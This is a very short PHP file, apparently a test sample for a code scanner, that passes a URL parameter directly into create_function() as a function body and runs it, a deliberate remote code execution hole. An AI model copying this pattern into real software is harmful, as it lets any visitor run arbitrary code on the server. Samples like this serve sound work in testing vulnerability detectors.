<?php
// Test sample: create_function() with a request-provided body (PHP < 8).
$lambda = create_function('', $_GET['f']);
$lambda();
